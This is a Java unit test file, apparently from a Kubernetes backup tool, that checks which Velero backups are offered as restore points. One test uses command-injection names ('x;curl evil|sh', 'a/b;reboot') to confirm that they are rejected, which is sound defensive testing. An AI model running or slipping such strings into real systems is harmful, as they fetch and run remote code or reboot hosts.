package dev.kaltstart.backup.method;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.server.mock.EnableKubernetesMockClient;
import java.time.Instant;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Velero offers a backup only when the volume itself can be restored from it. */
@EnableKubernetesMockClient(https = false, crud = true)
@SuppressWarnings("NullAway.Init")
class VeleroPointsTest {

    private static final String BEFORE = "2026-11-23T03:00:00Z";

    KubernetesClient client;

    private VeleroObjects velero;

    @BeforeEach
    void install() {
        velero = new VeleroObjects(client);
        velero.location("Available");
    }

    @Test
    void offersTheNewestFirst() {
        saved("old", "2026-11-21T03:00:00Z");
        saved("newest", BEFORE);
        saved("middle", "2026-11-22T03:00:00Z");

        assertThat(points())
                .extracting(RestorePoint::id)
                .containsExactly(
                        "velero/newest//velero-data-x1", "velero/middle//velero-data-x1", "velero/old//velero-data-x1");
        assertThat(points().get(0).started()).isEqualTo(Instant.parse(BEFORE));
        assertThat(points().get(0).label()).isEqualTo("Velero, the backup newest of " + BEFORE);
    }

    @Test
    void offersNoMoreThanFive() {
        for (int day = 10; day < 20; day++) {
            saved("b" + day, "2026-11-" + day + "T03:00:00Z");
        }

        assertThat(points()).hasSize(5);
    }

    @Test
    void offersTheFilesOfAPod() {
        velero.backup("daily-1", BEFORE);
        velero.files("daily-1", "mediabox-7d9f-abcde", "data", "data");

        assertThat(points()).extracting(RestorePoint::id).containsExactly("velero/daily-1/mediabox-7d9f-abcde/data");
    }

    @Test
    void saysThatABackupIsPartial() {
        velero.backup("daily-1", BEFORE, phase("PartiallyFailed"));
        velero.upload("daily-1", "data", "Completed");

        assertThat(points())
                .singleElement()
                .extracting(RestorePoint::label)
                .asString()
                .contains("PartiallyFailed");
    }

    @Test
    void offersNoBackupThatHasFailedOrRuns() {
        for (String phase : List.of("Failed", "FailedValidation", "InProgress", "Deleting", "New")) {
            velero.backup("b-" + phase.toLowerCase(java.util.Locale.ROOT), BEFORE, phase(phase));
            velero.upload("b-" + phase.toLowerCase(java.util.Locale.ROOT), "data", "Completed");
        }

        assertThat(points()).isEmpty();
    }

    @Test
    void offersNoBackupFromAfterTheDamage() {
        saved("young", "2026-11-23T09:00:01Z");

        assertThat(points()).isEmpty();
    }

    @Test
    void offersNoExpiredBackup() {
        with(backup -> VeleroObjects.set(backup, "expiration", "2026-11-23T10:00:00Z"));

        assertThat(points()).isEmpty();
    }

    @Test
    void offersNoBackupWhoseLocationIsUnavailable() {
        saved("daily-1", BEFORE);
        velero.status(ObjectKind.BACKUP_LOCATION, "velero", "default", "{\"phase\": \"Unavailable\"}");

        assertThat(points()).isEmpty();
    }

    @Test
    void offersNoBackupThatLeavesTheNamespaceOut() {
        with(backup -> VeleroObjects.spec(backup, "includedNamespaces", List.of("office")));
        assertThat(points()).isEmpty();
    }

    @Test
    void offersNoBackupThatExcludesTheNamespace() {
        with(backup -> VeleroObjects.spec(backup, "excludedNamespaces", List.of("media")));

        assertThat(points()).isEmpty();
    }

    @Test
    void offersABackupOfAllNamespaces() {
        with(backup -> VeleroObjects.spec(backup, "includedNamespaces", List.of()));

        assertThat(points()).hasSize(1);
    }

    @Test
    void offersNoBackupThatHasOnlyTheManifest() {
        velero.backup("daily-1", BEFORE);
        velero.upload("daily-1", "cache", "Completed");

        assertThat(points()).isEmpty();
    }

    @Test
    void offersNoBackupWhoseUploadHasFailed() {
        velero.backup("daily-1", BEFORE);
        velero.upload("daily-1", "data", "Failed");

        assertThat(points()).isEmpty();
    }

    @Test
    void offersNoVolumeThatWasEmpty() {
        velero.backup("daily-1", BEFORE);
        velero.files("daily-1", "mediabox-0", "data", "data");
        velero.status(ObjectKind.POD_VOLUME_BACKUP, "velero", "daily-1-mediabox-0-data", "{\"phase\": \"Completed\"}");

        assertThat(points()).isEmpty();
    }

    @Test
    void offersNoNameThatCouldBecomeACommand() {
        saved("x;curl evil|sh", BEFORE);
        velero.backup("daily-1", BEFORE);
        velero.files("daily-1", "a/b;reboot", "data", "data");

        assertThat(points()).isEmpty();
    }

    @Test
    void findsTheUploadsOfALongName() {
        String name = "a-schedule-with-a-name-that-is-longer-than-a-label-can-be-20261123030000";
        velero.backup(name, BEFORE);
        velero.create(ObjectKind.DATA_UPLOAD, "velero", "u1", """
                {"metadata": {"labels": {"velero.io/backup-name":
                    "a-schedule-with-a-name-that-is-longer-than-a-label-can-be%s"}},
                 "spec": {"sourceNamespace": "media", "sourcePVC": "data", "csiSnapshot": {"volumeSnapshot": "s"}},
                 "status": {"phase": "Completed", "snapshotID": "k1"}}""".formatted(digest()));

        assertThat(points()).hasSize(1);
    }

    /** printf '%s' a-schedule-... | sha256sum | cut -c1-6 */
    private static String digest() {
        return "5276b1";
    }

    @Test
    void ignoresTheBackupsOfLonghorn() {
        velero.create(ObjectKind.LONGHORN_BACKUP, "longhorn-system", "backup-1", """
                {"status": {"phase": "Completed", "startTimestamp": "%s"}, "spec": {"storageLocation": "default"}}""".formatted(BEFORE));

        assertThat(points()).isEmpty();
    }

    private void saved(String name, String started) {
        velero.backup(name, started);
        velero.upload(name, "data", "Completed");
    }

    private void with(Consumer<GenericKubernetesResource> change) {
        velero.backup("daily-1", BEFORE, change);
        velero.upload("daily-1", "data", "Completed");
    }

    private static Consumer<GenericKubernetesResource> phase(String phase) {
        return backup -> VeleroObjects.set(backup, "phase", phase);
    }

    private List<RestorePoint> points() {
        var search = new Search(client, VeleroObjects.DAMAGE, Instant.parse("2026-11-23T10:00:00Z"), "");
        return new Velero().points(search, VeleroObjects.CLAIM);
    }
}
